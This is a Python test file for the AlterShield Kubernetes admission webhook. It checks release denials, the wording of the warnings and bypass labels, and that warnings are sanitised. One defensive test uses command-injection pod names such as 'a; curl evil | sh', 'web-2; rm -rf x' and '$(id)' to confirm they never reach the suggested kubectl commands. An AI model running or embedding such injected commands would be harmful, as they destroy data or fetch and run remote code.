"""Design rules 2 and 5: the releases that are denied, the texts of the denials, and the requests that always pass."""

import json
import re
import unicodedata
from typing import Any

import jsonpatch
import pytest
from hypothesis import given
from hypothesis import strategies as st

from altershield.api import labels, released_by
from altershield.api.pages import DENIED
from tests.unit.gatekeeper.reviews import (
    MUTATE,
    RECONCILER,
    VALIDATE,
    StaticListers,
    about,
    ask,
    deployment,
    kind,
    relabelled,
    release,
    released,
    review,
    rolling_back,
    validate,
    version_of,
)

pytestmark = pytest.mark.usefixtures("every_kind")

Object = dict[str, Any]

SUSPENDED = "1683791175"  # 2023-05-11 07:46:15 UTC
OLD = version_of(deployment())
ROLLED_BACK_MESSAGE = (  # as reconciler/releases/decisions/rollback.py writes it
    "pod sleep-1 is not up after 120 s: ImagePullBackOff; version 1 was released again at 2026-08-21T07:31:49Z"
)
BIDIRECTIONAL = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def failed(*messages: str) -> StaticListers:
    """Listers after pods of the stored version failed verification."""
    return failed_pods(
        *({"pod": f"sleep-5c698f4449-{n}", "message": m, "verdict": "unpass"} for n, m in enumerate(messages))
    )


def failed_pods(*pods: Object, status: str = "Suspend") -> StaticListers:
    """Listers with a ChangeWorkload of the stored version in which these pods failed."""
    return StaticListers(releases=release(OLD, status=status, defenseCheckFailPods=list(pods)))


def suspended_release(**own: str) -> tuple[Object, Object]:
    """A suspended workload with a changed template after the mutating webhook, and the stored workload."""
    return released("busybox:2", suspend=SUSPENDED, **own), released(suspend=SUSPENDED)


def unprocessed(image: str = "busybox", **own: str) -> Object:
    """A workload whose version the reconciler has not processed yet."""
    return relabelled(released(image, **own), defense_status=None)


def passes(new: Object, old: Object | None = None, listers: StaticListers | None = None, **request: Any) -> bool:
    """Whether the request passes. A denial has the code 403."""
    response = validate(new, old, listers, **request)
    assert response["allowed"] or response["status"]["code"] == 403
    return bool(response["allowed"])


def test_release_of_a_suspended_workload_is_denied_with_the_message_of_the_walkthrough() -> None:
    response = validate(*suspended_release(), failed("find error"))
    assert response["allowed"] is False
    # kubectl: `Error from server (REASON): admission webhook "vdeployment.kb.io" denied the request: MESSAGE`
    assert response["status"] == {
        "status": "Failure",
        "code": 403,
        "reason": f"{kind()} sleep is suspended",
        "message": f"{kind()} sleep is suspended",
    }


def test_suspension_warnings_name_the_version_the_pods_the_time_and_the_repair() -> None:
    assert validate(*suspended_release(), failed("find error", ""))["warnings"] == [
        f"AlterShield: releases of {kind()} sleep are suspended since 2023-05-11T07:46:15Z: "
        f"version {OLD} (busybox) failed verification",
        "pod sleep-5c698f4449-0 failed: find error",
        "pod sleep-5c698f4449-1 failed: unpass",
        "to repair, run this command, which lets one release pass, then release: "
        f"kubectl label --overwrite {kind()} -n default sleep altershield.defense.antgroup.com/ignored-suspend=true",
        "if only these pods were bad, delete them, and their successors are verified: "
        "kubectl delete pod -n default sleep-5c698f4449-0 sleep-5c698f4449-1",
        f"to see why and all ways out, also for a wrong verdict, run: altershield why -n default {kind()}/sleep",
        f"this page explains suspensions: {DENIED}",
    ]


def test_suspension_by_one_pod_says_how_to_delete_it() -> None:
    assert (
        "if only the pod was bad, delete it, and its successor is verified: "
        "kubectl delete pod -n default sleep-5c698f4449-0"
    ) in validate(*suspended_release(), failed("find error"))["warnings"]


def test_warning_names_the_page_instead_of_a_command_that_does_not_fit() -> None:
    name = "s" * 253
    warnings = ask(VALIDATE, review(*suspended_release(), name=name), failed("find error"))["warnings"]
    assert f"to repair, run this command, which lets one release pass, then release (see {DENIED})" in warnings


def test_suspension_warnings_list_five_pods_and_count_the_others() -> None:
    warnings = validate(*suspended_release(), failed(*["x"] * 12))["warnings"]
    assert sum("failed: x" in warning for warning in warnings) == 5
    assert "and 7 more pods failed" in warnings
    assert not any("delete" in each for each in warnings), "the pods are not the reason"
    five = validate(*suspended_release(), failed(*"abcde"))["warnings"]
    assert not any("more pods failed" in warning for warning in five)


@given(st.lists(st.text(max_size=2000), max_size=8), st.text(max_size=40), st.text(max_size=253), st.text(max_size=63))
def test_warnings_have_valid_sizes_and_characters_for_any_text_in_the_cluster(
    messages: list[str], since: str, name: str, namespace: str
) -> None:
    new, old = suspended_release()
    old["metadata"]["labels"][labels.SUSPEND] = since
    try:
        body = review(new, old, name=name, namespace=namespace)
        json.dumps(body, ensure_ascii=False).encode()
    except UnicodeEncodeError:
        return  # half surrogates are no JSON
    listers = failed(*messages)
    listers.release = lambda *_: next(iter(listers.releases.values()))  # type: ignore[method-assign]
    warnings = ask(VALIDATE, body, listers)["warnings"]
    assert all(0 < len(warning.encode()) <= 256 for warning in warnings)
    assert sum(len(warning) for warning in warnings) < 4096
    assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in "".join(warnings))
    assert not any(unicodedata.bidirectional(c) in BIDIRECTIONAL for c in "".join(warnings))


def test_suspended_workload_without_changeworkload_is_denied() -> None:
    response = validate(*suspended_release(), StaticListers())
    assert response["status"]["message"] == f"{kind()} sleep is suspended"
    assert any("ignored-suspend" in warning for warning in response["warnings"])


def test_denial_while_the_repair_is_verified_differs_from_the_denial_after_the_failure() -> None:
    listers = StaticListers(releases=release(OLD, status="Running"))
    response = validate(*suspended_release(), listers)
    assert response["allowed"] is False
    (name,) = listers.releases
    assert response["warnings"] == [
        f"AlterShield: releases of {kind()} sleep are suspended since 2023-05-11T07:46:15Z: "
        f"version {OLD} (busybox), which repairs the failure, is not verified yet (Running)",
        "the suspension ends when that version is a Success; to follow it, run: "
        f"kubectl get changeworkload -n default {name.removeprefix('default/')}",
        f"this page explains suspensions: {DENIED}",
    ]


def test_denial_before_the_repair_is_processed_does_not_ask_for_another_repair() -> None:
    """`kubectl rollout undo` as the repair: the ChangeWorkload of the earlier release of this version exists."""
    new, old = suspended_release()[0], unprocessed(suspend=SUSPENDED)
    for listers in (StaticListers(), StaticListers(releases=release(OLD, status="Success")), failed("find error")):
        warnings = validate(new, old, listers)["warnings"]
        assert warnings[0].endswith(f"version {OLD} (busybox), which repairs the failure, is not verified yet (Init)")
        assert warnings[1].startswith("the suspension ends when that version is a Success; to follow it, run: kubectl")
        assert len(warnings) == 3


def test_denial_after_the_repair_succeeded_says_that_the_suspension_ends() -> None:
    warnings = validate(*suspended_release(), StaticListers(releases=release(OLD, status="Success")))["warnings"]
    assert warnings == [
        f"AlterShield: releases of {kind()} sleep are suspended since 2023-05-11T07:46:15Z: "
        f"version {OLD} (busybox) repairs the failure and is verified",
        f"the suspension ends in a few seconds, then release again (see {DENIED})",
    ]


def test_denial_while_the_repair_waits_gives_the_reason() -> None:
    stalled = {"type": "Stalled", "status": "True", "reason": "Paused", "message": "the workload is paused"}
    listers = StaticListers(releases=release(OLD, status="Running", conditions=[stalled]))
    assert "the release waits: Paused: the workload is paused" in validate(*suspended_release(), listers)["warnings"]


@pytest.mark.parametrize("status", ["Suspend", "Failed"])
def test_denial_after_a_failure_without_failed_pods_says_how_to_repair(status: str) -> None:
    warnings = validate(*suspended_release(), StaticListers(releases=release(OLD, status=status)))["warnings"]
    assert warnings[0].endswith(f"version {OLD} (busybox) failed verification")
    assert warnings[1].startswith("to repair, run this command")
    assert not any("delete pod" in warning for warning in warnings)


@pytest.mark.parametrize("status", ["Suspend", "Running"])
@pytest.mark.parametrize(
    ("pod", "shown"),
    [({"message": "find error"}, "find error"), ({"verdict": "unpass"}, "unpass"), ({}, "no message")],
    ids=["with a message", "with a verdict", "with neither"],
)
def test_warnings_name_a_failed_pod_with_its_message_or_verdict(status: str, pod: Object, shown: str) -> None:
    warnings = validate(*suspended_release(), failed_pods({"pod": "a", **pod}, status=status))["warnings"]
    assert f"version {OLD} (busybox) failed verification" in warnings[0]
    assert warnings[1] == f"pod a failed: {shown}"
    assert "kubectl delete pod -n default a" in warnings[3]


@pytest.mark.parametrize(
    "names", [["web-1", "web-2; rm -rf x"], ["a; curl evil | sh"], ["--all"], ["$(id)"], ["a b"], [""]]
)
def test_name_that_no_pod_can_have_is_in_no_command(names: list[str]) -> None:
    pods = [{"pod": name, "message": "x", "verdict": "unpass"} for name in names]
    warnings = validate(*suspended_release(), failed_pods(*pods))["warnings"]
    assert not any("delete pod" in warning for warning in warnings)


def test_commands_in_denials_are_at_the_end_and_have_the_names_filled_in() -> None:
    repair = f"kubectl label --overwrite {kind()} -n default sleep {labels.IGNORED_SUSPEND}=true"
    suspended = validate(*suspended_release(), failed("find error"))
    rolled = validate(released("busybo"), released(), rolled_back(BAD))
    commands = [
        *(each.partition(": kubectl ")[2] for each in suspended["warnings"]),
        rolled["status"]["message"].partition(": kubectl ")[2],
    ]
    assert [f"kubectl {each}" for each in commands if each] == [
        repair,
        "kubectl delete pod -n default sleep-5c698f4449-0",
        repair,
    ]


def test_every_denial_names_altershield_and_the_page() -> None:
    for response in (
        validate(*suspended_release(), failed("find error")),
        validate(*suspended_release()),
        validate(*suspended_release(), StaticListers(releases=release(OLD, status="Running"))),
        validate(*suspended_release(), StaticListers(releases=release(OLD, status="Success"))),
        validate(released("busybo"), released(), rolled_back(BAD)),
        validate(released("busybo"), listers=rolled_back(BAD)),
    ):
        text = "\n".join((*response.get("warnings", ()), response["status"]["message"]))
        assert text.startswith("AlterShield: ")
        assert DENIED in text


def test_warnings_contain_no_bidirectional_control_characters() -> None:
    warnings = validate(*suspended_release(), failed("find \u202eerror\u2066"))["warnings"]
    assert warnings[1] == "pod sleep-5c698f4449-0 failed: find error"


def test_all_times_in_denials_are_rfc_3339() -> None:
    pattern = re.compile(r"\b\d{4}-\d{2}-\d{2}\S*")
    suspended = validate(*suspended_release(), failed("find error"))
    again = {**ROLLED_BACK, "reason": "PodNotUp", "message": ROLLED_BACK_MESSAGE}
    denied = validate(released("busybo"), released(), rolled_back(BAD, conditions=[again]))
    text = "\n".join((*suspended["warnings"], denied["status"]["message"]))
    found = [each.rstrip(":;") for each in pattern.findall(text)]
    assert found == ["2023-05-11T07:46:15Z", "2026-08-21T07:29:49Z", "2026-08-21T07:31:49Z"]


def test_release_with_ignored_suspend_passes() -> None:
    new, old = suspended_release(ignored_suspend="true")
    response = validate(new, old, failed("find error"))
    assert response["allowed"] is True
    assert response["auditAnnotations"]["bypass"] == "ignored-suspend"


def test_second_repair_before_the_first_is_processed_is_denied_with_the_advice_to_wait() -> None:
    """The first repair is stored. The reconciler has not removed its label yet."""
    first = unprocessed("busybox:2", suspend=SUSPENDED, ignored_suspend="true")
    response = validate(released("busybox:3", suspend=SUSPENDED, ignored_suspend="true"), first, failed("find error"))
    assert response["status"]["message"] == response["status"]["reason"] == f"{kind()} sleep is suspended"
    version = version_of(deployment("busybox:2"))
    assert response["warnings"][0] == (
        "AlterShield: the label ignored-suspend lets one release pass, and it already let version "
        f"{version} pass, which is not processed yet; release again in a few seconds"
    )
    assert response["warnings"][1].endswith(
        f"version {version} (busybox:2), which repairs the failure, is not verified yet (Init)"
    )


RELEASE, STORED = suspended_release()
REPAIR, _ = suspended_release(ignored_suspend="true")


def with_sidecar(obj: Object) -> Object:
    obj["spec"]["template"]["spec"]["containers"].append({"name": "sidecar", "image": "proxy"})
    return obj


STAYS_SUSPENDED = {
    **{f"suspend is {text[:9]!r}": (RELEASE, released(suspend=text)) for text in ("", "soon", "-1", "9" * 400)},
    **{
        f"ignored-suspend is {text!r}": (suspended_release(ignored_suspend=text)[0], STORED)
        for text in ("false", "", "True", "1")
    },
    "the request removes suspend": (released("busybox:2"), STORED),
    "only the stored object has ignored-suspend": (RELEASE, released(suspend=SUSPENDED, ignored_suspend="true")),
    "another webhook changed the template after the version was set": (with_sidecar(suspended_release()[1]), STORED),
    "ignored-suspend let the stored version pass": (
        released("busybox:3", suspend=SUSPENDED, ignored_suspend="true"),
        unprocessed("busybox:2", suspend=SUSPENDED, ignored_suspend="true"),
    ),
    "defense-status is not `processed`": (REPAIR, released(suspend=SUSPENDED, defense_status="soon")),
}


@pytest.mark.parametrize(("new", "old"), STAYS_SUSPENDED.values(), ids=list(STAYS_SUSPENDED))
def test_suspended_workload_is_not_released(new: Object, old: Object) -> None:
    assert not passes(new, old)


def test_repair_of_a_suspended_workload_without_a_version_passes() -> None:
    """It was restored, or released while no gatekeeper decided. No other way leads out of the suspension."""
    assert passes(REPAIR, relabelled(unprocessed(suspend=SUSPENDED), version=None))


def test_creation_with_the_suspend_label_passes() -> None:
    assert passes(STORED)


def test_release_of_a_suspended_workload_by_the_reconciler_passes() -> None:
    assert passes(*suspended_release(), StaticListers(releases=rolling_back()), user=RECONCILER)


def test_suspended_workload_stays_suspended_when_blocking_is_switched_off() -> None:
    assert not passes(*suspended_release(), StaticListers(blocking=False))
    assert passes(*suspended_release(ignored_suspend="true"), StaticListers(blocking=False))


FAILED = [{"pod": "sleep-a", "uid": "a", "verdict": "unpass"}]


def unlabelled(status: str = "Suspend", version: str = OLD, *, blocking: bool = True, **more: Any) -> StaticListers:
    """Listers after the reconciler stored this status, and before it writes the label `suspend`."""
    spec = more.pop("spec", None)
    owner = more.pop("owner", None)
    found = release(version, spec=spec, owner=owner, status=status, defenseCheckFailPods=FAILED, **more)
    return StaticListers(releases=found, blocking=blocking)


def test_release_is_denied_from_the_moment_the_status_suspends_it_before_the_label_is_written() -> None:
    response = validate(released("busybox:2"), released(), unlabelled(entryTimeUnix=int(SUSPENDED)))
    assert response["status"]["message"] == response["status"]["reason"] == f"{kind()} sleep is suspended"
    assert response["warnings"][:2] == [
        f"AlterShield: releases of {kind()} sleep are suspended since 2023-05-11T07:46:15Z: "
        f"version {OLD} (busybox) failed verification",
        "pod sleep-a failed: unpass",
    ]


@pytest.mark.parametrize(
    "stored",
    [
        *({"status": status} for status in ("Init", "Running", "Success", "Failed", "Rollback")),
        *(
            {"spec": {"policy": {"namespace": "default", "name": "rules", "mode": mode}}}
            for mode in ("observe", "warn")
        ),
        {"version": version_of(deployment("busybox:0"))},
        {"blocking": False},
        {"resumption": {"sinceUnix": 1, "pods": ["a"]}},
    ],
    ids=lambda stored: f"{stored}",
)
def test_status_suspends_nothing(stored: Object) -> None:
    assert passes(released("busybox:2"), released(), unlabelled(**stored))


def test_status_of_another_workload_suspends_nothing() -> None:
    assert passes(released("busybox:2"), released(), unlabelled(owner=owner(uid="x")))


def test_status_suspends_also_if_it_names_no_failed_pod_and_nobody_resumed() -> None:
    assert not passes(released("busybox:2"), released(), failed_pods())


def test_status_suspends_again_when_another_pod_fails_after_a_person_resumed() -> None:
    assert not passes(released("busybox:2"), released(), unlabelled(resumption={"sinceUnix": 1, "pods": ["b"]}))


def test_repair_and_other_changes_pass_a_suspension_by_the_status() -> None:
    assert passes(released("busybox:2", ignored_suspend="true"), released(), unlabelled())
    assert passes({**released(), "spec": {**released()["spec"], "replicas": 9}}, released(), unlabelled())


def test_version_that_was_released_again_is_not_suspended_by_the_status_of_its_earlier_release() -> None:
    assert passes(released("busybox:2"), unprocessed(), unlabelled())


def in_labels(key: str) -> str:
    return f"labels/{key.replace('/', '~1')}"


@pytest.mark.parametrize(
    "change",
    [
        {"op": "add", "path": "/spec/replicas", "value": 0},
        {"op": "add", "path": "/spec/paused", "value": True},
        {"op": "add", "path": "/metadata/annotations", "value": {"deployment.kubernetes.io/revision": "7"}},
        {"op": "add", "path": f"/metadata/{in_labels(labels.IGNORED_SUSPEND)}", "value": "true"},
        {"op": "add", "path": "/status", "value": {"observedGeneration": 7, "replicas": 5}},
        {"op": "remove", "path": f"/spec/template/metadata/{in_labels(labels.VERSION)}"},
    ],
    ids=lambda change: change["path"],
)
@pytest.mark.parametrize("webhook", [MUTATE, VALIDATE])
def test_update_without_a_template_change_is_allowed(webhook: str, change: Object) -> None:
    old = released(suspend=SUSPENDED)
    new = jsonpatch.apply_patch(old, [change])
    assert ask(webhook, review(new, old), failed("x"))["allowed"] is True


@pytest.mark.parametrize("webhook", [MUTATE, VALIDATE])
@pytest.mark.parametrize(
    "request_",
    [
        {"subResource": "scale", "object": {"apiVersion": "autoscaling/v1", "kind": "Scale", "metadata": {}}},
        {"subResource": "status"},
        {"operation": "DELETE", "object": None},
        {"operation": "CONNECT"},
    ],
)
def test_deletions_and_subresources_are_allowed_without_patch(webhook: str, request_: Object) -> None:
    body = review(*suspended_release(), **request_)
    assert ask(webhook, body, failed("x")) == {"uid": body["request"]["uid"], "allowed": True}


@pytest.mark.parametrize("webhook", [MUTATE, VALIDATE])
def test_dry_run_gets_the_same_response(webhook: str) -> None:
    new, old = suspended_release()
    assert ask(webhook, review(new, old, dryRun=True)) == ask(webhook, review(new, old))


ROLLED_BACK = {"type": "RolledBack", "status": "True", "reason": ""}


def rolled_back(version: str, **status: Any) -> StaticListers:
    condition = {
        **ROLLED_BACK,
        "reason": "StartTimeout",
        "message": "pod sleep-1 did not come up within 120 s (ImagePullBackOff)",
        "lastTransitionTime": "2026-08-21T07:29:49Z",
    }
    own = {"status": "Failed", "entryTimeUnix": 1787297389, "conditions": [condition], **status}
    return StaticListers(releases=release(version, **own))


BAD = version_of(deployment("busybo"))


def test_rolled_back_version_is_denied_with_time_reason_page_and_command() -> None:
    response = validate(released("busybo"), released(), rolled_back(BAD))
    assert response["status"] == {
        "status": "Failure",
        "code": 403,
        "reason": "Forbidden",
        "message": f"AlterShield: {kind()} sleep: version {BAD} (busybo) was rolled back at 2026-08-21T07:29:49Z: pod "
        f"sleep-1 did not come up within 120 s (ImagePullBackOff); see {DENIED}; change the template, or run this "
        "command, which lets one release pass, and release it again: "
        f"kubectl label --overwrite {kind()} -n default sleep altershield.defense.antgroup.com/ignored-suspend=true",
    }
    assert response["auditAnnotations"]["version"] == BAD


def test_creation_of_a_rolled_back_version_is_denied_with_a_label_for_the_manifest() -> None:
    message = validate(released("busybo"), listers=rolled_back(BAD))["status"]["message"]
    assert message.endswith(
        f"see {DENIED}; change the template, or add the label "
        'altershield.defense.antgroup.com/ignored-suspend: "true" to the manifest and create it again'
    )


def test_denial_of_a_rolled_back_version_without_a_reason_gives_none() -> None:
    listers = StaticListers(releases=release(BAD, conditions=[ROLLED_BACK]))
    message = validate(released("busybo"), released(), listers)["status"]["message"]
    assert f" was rolled back; see {DENIED}; change the template" in message


SCALED_BAD = {**released("busybo"), "spec": {**released("busybo")["spec"], "replicas": 9}}
RELABELLED_BAD = deployment("busybo", own={labels.VERSION: OLD}, template_version=OLD)


def test_rolled_back_version_is_denied_whatever_its_labels_say_and_while_its_rollback_is_under_way() -> None:
    assert not passes(RELABELLED_BAD, released(), rolled_back(BAD))
    assert not passes(released("busybo"), None, rolled_back(BAD, status="", conditions=[ROLLED_BACK]))
    assert not passes(released("busybo"), released(), rolled_back(BAD, status="Rollback", conditions=[]))


def test_repairs_scaling_and_other_versions_pass_after_a_rollback() -> None:
    assert passes(released("busybo", ignored_suspend="true"), released(), rolled_back(BAD))
    assert passes(released("busybo", ignored_suspend="true"), None, rolled_back(BAD))
    assert passes(SCALED_BAD, released("busybo"), rolled_back(BAD, status="Rollback"))
    assert passes(released("busybox:2"), released(), rolled_back(BAD))


@pytest.mark.parametrize("status", ["Running", "Success", "Suspend", "Failed", "Init"])
def test_version_that_was_not_rolled_back_passes(status: str) -> None:
    assert passes(released("busybo"), released(), rolled_back(BAD, status=status, conditions=[]))


def test_rolled_back_version_passes_for_the_reconciler_and_without_blocking() -> None:
    listers = rolled_back(BAD)
    listers.releases |= rolling_back("busybo")
    assert passes(released("busybo"), released(), listers, user=RECONCILER)
    listers.blocking = False
    assert passes(released("busybo"), released(), listers)


def test_second_release_of_a_rolled_back_version_before_the_first_is_processed_is_denied() -> None:
    first = unprocessed("busybox:2", ignored_suspend="true")
    response = validate(released("busybo", ignored_suspend="true"), first, rolled_back(BAD))
    assert "was rolled back" in response["status"]["message"]
    assert "is not processed yet" in response["warnings"][0]
    listers = rolled_back(BAD)
    listers.blocking = False
    assert validate(released("busybo", ignored_suspend="true"), first, listers)["allowed"] is True


@pytest.mark.parametrize(("user", "passes"), [(RECONCILER, True), ("jane", False)])
def test_label_that_is_set_right_after_a_rollback_lets_a_release_pass(user: str, passes: bool) -> None:
    """The version that the rollback released is not processed yet. It needed no pass."""
    present = unprocessed("busybox:2", ignored_suspend="true")
    value = released_by.encode(user, version_of(deployment("busybox:2")), 1_700_000_000)
    present["metadata"]["annotations"] = {released_by.ANNOTATION: value}
    assert validate(released("busybo", ignored_suspend="true"), present, rolled_back(BAD))["allowed"] is passes


def test_rolled_back_template_is_denied_by_its_fingerprint_after_the_defaults_changed() -> None:
    """An API server with other defaults changes the stored template, so its fingerprint is not its version."""
    listers = rolled_back("f" * 32, source={"version": "f" * 32, "fingerprint": BAD})
    response = validate(released("busybo"), released(), listers)
    assert f"version {'f' * 32} (busybo) was rolled back" in response["status"]["message"]
    assert validate(released("busybox:2"), released(), listers)["allowed"] is True


def owner(**changes: str) -> Object:
    ours = {
        "apiVersion": about().api_version,
        "kind": about().kind,
        "name": "sleep",
        "uid": released()["metadata"]["uid"],
    }
    return {**ours, "controller": True, **changes}


OTHER_UID = {"uid": "other"}
OUR_UID = {"uid": released()["metadata"]["uid"]}


@pytest.mark.parametrize(
    ("changes", "spec", "belongs"),
    [
        ({}, {}, True),
        (OTHER_UID, {}, False),
        ({"kind": "Job"}, {}, False),
        ({"apiVersion": "batch/v1"}, {}, False),
        (OTHER_UID, {"workloadRef": OUR_UID}, True),
        (None, {}, True),
        (None, {"workloadRef": {"kind": "Job", "name": "sleep", "uid": "other"}}, False),
    ],
)
def test_changeworkload_denies_only_its_own_workload(
    changes: dict[str, str] | None, spec: Object, belongs: bool
) -> None:
    listers = rolled_back(BAD, owner=None if changes is None else owner(**changes), spec=spec)
    assert passes(released("busybo"), released(), listers) is not belongs


def test_uid_of_the_stored_workload_selects_its_changeworkloads() -> None:
    forged = released("busybo")
    forged["metadata"]["uid"] = "forged"
    listers = rolled_back(BAD, spec={"workloadRef": OUR_UID}, owner=owner(**OTHER_UID))
    assert not passes(forged, released(), listers)


def test_denial_contains_no_control_characters_and_is_short() -> None:
    condition = {**ROLLED_BACK, "reason": "x", "message": "a\nb\x1b[31m" + "c" * 5000}
    message = validate(released("busybo"), released(), rolled_back(BAD, conditions=[condition]))["status"]["message"]
    assert "a b [31mcc" in message
    assert len(message) < 900


def test_denial_without_ignored_suspend_does_not_advise_to_wait() -> None:
    new, old = suspended_release()[0], unprocessed(suspend=SUSPENDED)
    assert not any("not processed yet" in warning for warning in validate(new, old)["warnings"])


def test_suspended_workload_without_a_version_is_denied_with_version_unknown() -> None:
    new, old = suspended_release()
    warnings = validate(new, relabelled(old, version=None))["warnings"]
    assert warnings[0].endswith("version unknown failed verification (its ChangeWorkload does not exist)")


@pytest.mark.parametrize("suspend", ["\u0661\u0662\u0663", "9" * 5000], ids=["other digits", "too many digits"])
def test_suspension_warnings_leave_out_a_time_that_is_not_a_unix_time(suspend: str) -> None:
    new, old = suspended_release()
    old["metadata"]["labels"][labels.SUSPEND] = suspend
    assert validate(new, old)["warnings"][0].startswith(f"AlterShield: releases of {kind()} sleep are suspended: ")


def test_commands_for_a_review_without_a_namespace_name_none() -> None:
    new, old = suspended_release()
    warnings = ask(VALIDATE, review(new, old, namespace=""), failed("x"))["warnings"]
    commands = [warning for warning in warnings if "kubectl" in warning]
    assert commands
    assert not any(" -n " in command for command in commands)


def test_version_is_named_without_images_if_the_stored_template_is_not_of_it() -> None:
    """Somebody changed it while no gatekeeper reviewed: the label is that of the template before."""
    stored = deployment(
        "busybox:2", {labels.VERSION: OLD, labels.DEFENSE_STATUS: labels.PROCESSED, labels.SUSPEND: SUSPENDED}
    )
    warnings = validate(deployment("busybox:3"), stored, failed("find error"))["warnings"]
    assert warnings[0].endswith(f"version {OLD} failed verification")
